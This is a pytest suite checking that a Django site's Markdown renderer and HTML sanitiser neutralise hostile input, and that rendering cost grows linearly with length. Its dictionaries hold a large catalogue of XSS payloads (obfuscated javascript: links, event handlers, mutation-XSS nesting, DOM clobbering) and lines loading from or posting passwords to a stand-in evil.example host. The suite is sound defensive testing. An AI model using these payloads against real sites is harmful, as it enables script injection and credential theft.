"""Texts that mean harm: as Markdown, and as HTML that reaches the sanitiser by some way or other.

Nothing here knows how the renderer works. Whatever replaces Python-Markdown or bleach has to pass.
"""

import re
import time

from django.core.cache import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from people.markdown_limits import find_costly_markup
from people.validators import MARKDOWN_MAX_LENGTH, UNPRINTABLE
from showcase.markdown import plain_text, render
from showcase.markdown.parsing import to_html
from showcase.markdown.sanitising import sanitise

from .markup import elements_of

ATTRIBUTES = {
    "a": {"aria-label", "class", "href", "rel", "title"},
    "abbr": {"title"},
    "code": {"class"},
    "div": {"aria-label", "class", "role", "tabindex"},
    "img": {"alt", "loading", "src", "title"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"class", "tabindex"},
    "span": {"class"},
    **{tag: {"class"} for tag in ("td", "th")},
    **{tag: {"id"} for tag in ("h2", "h3", "h4", "h5", "h6", "li", "sup")},
    **{tag: set() for tag in ("blockquote", "br", "dd", "del", "dl", "dt", "em", "hr", "strong")},
    **{tag: set() for tag in ("table", "tbody", "thead", "tr", "ul")},
}
SAFE_TARGET = re.compile(r"(?:https?:)?//[^/?#@:]+(?:[/?#]|\Z)|mailto:|[#?/.]|[^:]*(?:[/?#]|\Z)")

MARKDOWN = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script in a block": "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "script within script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script>alert(1)",
    "script with a slash": "<script/x>alert(1)</script>",
    "svg": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image with a handler and odd quotes": '<img """><script>alert(1)</script>">',
    "body": "<body onload=alert(1)>",
    "input": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>">',
    "object": '<object data="javascript:alert(1)">',
    "embed": '<embed src="//evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "button": "<button formaction=javascript:alert(1)>",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "stylesheet": '<link rel=stylesheet href="//evil.example/x.css">',
    "style": "<style>@import '//evil.example/x.css';</style>",
    "style in an attribute": '<p style="background:url(//evil.example/x)">a</p>',
    "comment": "<!-- a --><img src=x onerror=alert(1)><!-- b -->",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "declaration": "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "instruction": '<?xml version="1.0"?><?php echo 1 ?>',
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "text area": "<textarea></textarea><script>alert(1)</script>",
    "plain text": "<plaintext>",
    "end of what it did not begin": "</div></main></body></html>",
    "end of a list": "- a</li></ul><script>alert(1)</script>",
    "clobbering id": "<a id=location name=cookie>x</a><img name=getElementById>",
    "script target": "[x](javascript:alert(1))",
    "script target in capitals": "[x](JaVaScRiPt:alert(1))",
    "script target with entities": "[x](&#106;&#97;vascript:alert(1))",
    "script target with hexadecimal entities": "[x](&#x6a&#x61vascript&#x3a;alert(1))",
    "script target with a named colon": "[x](javascript&colon;alert(1))",
    "script target with a tab": "[x](java\tscript:alert(1))",
    "script target with an entity for a tab": "[x](java&Tab;script:alert(1))",
    "script target with a line break": "[x](java\nscript:alert(1))",
    "script target with a control character": "[x](\x01javascript:alert(1))",
    "script target with escapes": r"[x](java\script\:alert\(1\))",
    "script target in brackets": "[x](<javascript:alert(1)>)",
    "script target in angle brackets": "<javascript:alert(1)>",
    "script target with slashes": "<javascript://%0aalert(1)>",
    "script target by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "script target by short reference": "[y]\n\n[y]: <javascript:alert(1)>",
    "script target by picture": "![x](javascript:alert(1))",
    "script target by picture reference": "![x][y]\n\n[y]: javascript:alert(1)",
    "script target as mail": "<javascript:alert(1)//@x.example>",
    "script target escaped twice": "[x](&amp;#106;avascript:alert(1))",
    "data target": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "visual basic target": "[x](vbscript:msgbox(1))",
    "file target": "[x](file:///etc/passwd)",
    "target with a user": "[x](https://example.org@evil.example/)",
    "target with backslashes": "[x](\\\\evil.example\\x)",
    "quote out of a target": '[x](https://a.example/"onmouseover="alert(1))',
    "quote out of a title": "[x](https://a.example/ 'a\" onmouseover=\"alert(1)')",
    "quote out of an alternative text": '![x" onerror="alert(1)](/x.png)',
    "quote out of a picture": '![x](/x.png"onerror="alert(1))',
    "picture that loads": "![x](https://evil.example/track.png)",
    "picture that loads by reference": "![x][y]\n\n[y]: //evil.example/track.png",
    "picture with a backslash": "![x](/\\evil.example/track.png)",
    "handler in a bare address": "https://a.example/\"onmouseover='alert(1)'",
    "end of an attribute in a bare address": "https://a.example/><script>alert(1)</script>",
    "mail with a handler": '<"onclick=alert(1)"@x.example>',
    "attributes of a list": "a {: onclick=alert(1) style=color:red #location }",
    "options of a fence": "```{.python #location onclick=alert(1) style=x}\na\n```",
    "pygments options of a fence": "```{.python cssclass='\"><script>' full=true}\na\n```",
    "language of a fence": '```"><script>alert(1)</script>\na\n```',
    "code": "`<script>alert(1)</script>`",
    "end of code": "```\n</code></pre><script>alert(1)</script>\n```",
    "end of highlighted code": '```html\n</code></pre><script x="y">alert(1)</script>\n```',
    "end of indented code": "    </code></pre><script>alert(1)</script>",
    "heading as an id": "# <img src=x onerror=alert(1)>",
    "footnote label": 'a[^"><script>]\n\n[^"><script>]: javascript:alert(1)',
    "abbreviation": '*[x]: " onmouseover="alert(1)\n\nx',
    "abbreviation of markup": "*[<script>]: a\n\n<script>",
    "admonition kind": '!!! note" onclick="alert(1)\n    a',
    "admonition title": '!!! note "<script>alert(1)</script>"\n    a',
    "table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "definition": "<script>\n: alert(1)",
    "placeholder of an element": "\x02klzzwxh:0000\x03 *a*",
    "placeholder of code": "\x02wzxhzdk:0\x03\n\n```\na\n```",
    "placeholder of an ampersand": "\x02amp\x03#60;script>",
    "placeholder of a character": "\x0260\x03script\x0262\x03",
    "entities that spell a tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities that spell a tag twice": "&amp;lt;script&amp;gt;alert(1)",
    "entity without an end": "&#60script&#62alert(1)",
    "entity with very many digits": "[x](/ '&#" + "1" * 5_000 + ";') &#" + "9" * 4_000 + ";",
    "nul in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "surrogates in a tag": "<scr\ud83dipt>\ude00alert(1)",
    "another width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "old encoding": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
HTML = {
    "nested math": "<math><mi><table><mi><style></math><img src=x onerror=alert(1)></style>",
    "nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "foreign style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "foreign title": "<svg><title><a href='</title><img src=x onerror=alert(1)>'>",
    "attribute in backticks": "<img src=`x`onerror=alert(1)>",
    "attribute without a space": '<a href="/x"onclick="alert(1)">x</a>',
    "attribute with a slash": "<a/href=javascript:alert(1)>x</a>",
    "attribute twice": '<a href="/x" href="javascript:alert(1)">x</a>',
    "target with a nul": '<a href="java\0script:alert(1)">x</a>',
    "target with a line break": '<a href="jav\nascript:alert(1)">x</a>',
    "target with entities": "<a href=&#0000106avascript&colon;alert(1)>x</a>",
    "target with a named colon": '<a href="javascript&colon;alert(1)">x</a>',
    "target with a named tab": '<a href="java&Tab;script&colon;alert(1)">x</a>',
    "target that shows another site": '<a href="https://example.org@evil.example/">x</a>',
    "target with a soft hyphen": "<a href='java&shy;script:alert(1)'>x</a>",
    "target of another language": '<a href="data:text/html,x" xlink:href="javascript:x">x</a>',
    "links within links": '<a href="/a"><table><tr><td><a href="javascript:x">b</a></table></a>',
    "content before a table": "<table><a href=javascript:x>a<tr><td><img src=//evil.example/x>b",
    "unclosed everything": '<div class="footnote"><p><em><a href="/x"><ul><li><table><tr><td>',
    "closed out of order": "<em><strong>a</em>b</strong><p>c</blockquote></div>",
    "paragraph in a paragraph": "<p>a<p>b<div>c</p>d</div><h2>e<h3>f",
    "own id": '<h2 id="location">a</h2><li id="main">b</li><sup id="md- x">c</sup>',
    "own name": '<a name="cookie" id="getElementById" href="/x">x</a>',
    "own classes": '<div class="button"><span class="k button"><p class="admonition warning x">',
    "own role": '<div role="alert" tabindex="5" aria-label="Password" contenteditable>',
    "opened window": '<a href="/x" target="_blank" rel="opener" ping="//evil.example">x</a>',
    "download": '<a href="/x" download="x.exe">x</a>',
    "picture set": '<img src="/x.png" srcset="//evil.example/x 1x" sizes="1px">',
    "picture from elsewhere": '<img src="//evil.example/x.png"><img src="https://evil.example/">',
    "picture as a map": '<img src="/x.png" usemap="#m"><map name=m><area href=javascript:x>',
    "comment with an end": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><b>",
    "declarations": "<!DOCTYPE html><?import namespace='t'><![CDATA[<a]]>",
    "unfinished tag": "<a href='/x' <img src=x onerror=alert(1)",
    "tag of letters and signs": "<a:b onclick=x><a-b onclick=x><1 onclick=x></ onclick=x>",
    "long title": '<a title="' + "x" * 5_000 + '">x</a>',
    "style of a cell": '<td style="position:fixed" align="right" background="//evil.example">',
    "start of a list": '<ol start="-1" type="A"><li value="javascript:1">a</ol>',
}


def assert_harmless(html):
    html.encode()
    for element in elements_of(html):
        assert element.tag in ATTRIBUTES
        assert set(element.attributes) <= ATTRIBUTES[element.tag], element.attributes
        assert element.attributes.get("id", "md-").startswith("md-")
        assert element.attributes.get("tabindex", "0") == "0"
        for name in {"href", "src"} & set(element.attributes):
            # As a browser reads it: entities are decoded by now.
            target = re.sub(r"[\t\n\r]", "", element[name]).strip("".join(map(chr, range(33))))
            assert SAFE_TARGET.match(target.lower().replace("\\", "/")), element[name]
            assert name == "href" or not re.match(r"[/\\]{2}|\w+:", target), element[name]


@pytest.mark.parametrize("text", MARKDOWN.values(), ids=MARKDOWN)
def test_text_that_means_harm_does_none(text):
    html = render(text)
    assert_harmless(html)
    assert sanitise(html) == html
    for link in elements_of(html):
        if link.tag == "a" and re.match(r"(?:https?:)?[/\\]{2}", link.attributes.get("href", "")):
            assert link["rel"] == "nofollow noopener ugc"


@pytest.mark.parametrize("html", [*MARKDOWN.values(), *HTML.values()], ids=[*MARKDOWN, *HTML])
def test_html_that_means_harm_does_none(html):
    clean = sanitise(html.replace("\ud83d", "").replace("\ude00", ""))
    assert_harmless(clean)
    assert sanitise(clean) == clean


def test_there_is_no_way_round_the_sanitiser(monkeypatch):
    monkeypatch.setattr(
        "showcase.markdown.to_html", lambda *a: "<b onclick=x>a</b><script>b</script>"
    )
    cache.clear()
    assert render("a") == "&lt;b onclick=x&gt;a&lt;/b&gt;&lt;script&gt;b&lt;/script&gt;"


# Any text

SIGNS = [*"[]()<>{}!*_~`\\&;:#|=+-^\"'/.,1aä日 \n\t\0\x02\x03\u202e\ud800"]
BEGINNINGS = ["\n- ", "\n1. ", "\n> ", "\n# ", "\n: ", "\n!!! a\n    ", "\n    ", "\n[a]: /b"]
WORDS = ["![", "](", "[a](b)", "[a][b]", "[^1]", "**", "__", "~~", "```", "~~~", "|\n|-", "\n---"]
HARM = [
    "<a ",
    "</p>",
    "<script>",
    "<!--",
    "-->",
    "onclick=",
    "javascript:",
    "&#106;",
    "&#x3a;",
    "&lt;",
]
ADDRESSES = ["https://a.example/", "mailto:a@b.example", "\n[^1]: a", "\n*[a]: b", "\n\n", "  \n"]
FRAGMENTS = st.sampled_from(SIGNS + BEGINNINGS + WORDS + HARM + ADDRESSES)
MARKUP = st.lists(FRAGMENTS, max_size=60).map("".join)
ANYTHING = st.text(st.characters(exclude_categories=()), max_size=200)


@settings(deadline=None, max_examples=300)
@given(MARKUP | ANYTHING)
def test_any_text_is_rendered_harmless_and_sanitising_again_changes_nothing(text):
    html = render(text)
    assert_harmless(html)
    assert sanitise(html) == html
    assert render(text) == html


@settings(deadline=None, max_examples=200)
@given(MARKUP)
def test_any_html_is_made_harmless_and_sanitising_again_changes_nothing(text):
    html = sanitise(text.replace("\ud800", ""))
    assert_harmless(html)
    assert sanitise(html) == html


@settings(deadline=None, max_examples=100)
@given(MARKUP | ANYTHING, st.integers(5, 200))
def test_any_text_has_an_excerpt_that_fits(text, length):
    words = plain_text(text, length)
    assert len(words) <= length
    assert words == " ".join(words.split())
    words.encode()


# Any length


PRINTABLE = FRAGMENTS.filter(lambda fragment: not UNPRINTABLE.search(fragment))


@settings(deadline=None, max_examples=60)
@given(st.lists(PRINTABLE, min_size=1, max_size=4), st.sampled_from(["", " ", "\n", "\n\n"]))
def test_what_the_limits_let_pass_is_rendered(fragments, separator):
    unit = "".join(fragments) + separator
    text = (unit * MARKDOWN_MAX_LENGTH)[:MARKDOWN_MAX_LENGTH]
    html = render(text)
    assert_harmless(html)
    assert ("markdown-plain" in html) == (find_costly_markup(text) is not None)


ACCEPTED = [
    "[a](/b) ",
    "*a* word or two ",
    "`a` word or two ",
    "- [a](/b)\n",
    "> a word or two\n\n",
    "<",
    "&",
]


def seconds_for(text):
    start = time.process_time()
    sanitise(to_html(text, "x"))
    return time.process_time() - start


@pytest.mark.parametrize("unit", ACCEPTED)
def test_cost_of_a_text_grows_with_its_length_and_not_with_its_square(unit):
    short, long = (unit * (size // len(unit)) for size in (1_000, 8_000))
    assert find_costly_markup(long) is None
    # The quickest of several, as other programs run too. Eight times as long takes eight times as
    # much, or sixty-four times.
    once, eight_times = (min(seconds_for(text) for _ in range(3)) for text in (short, long))
    assert eight_times < 24 * once
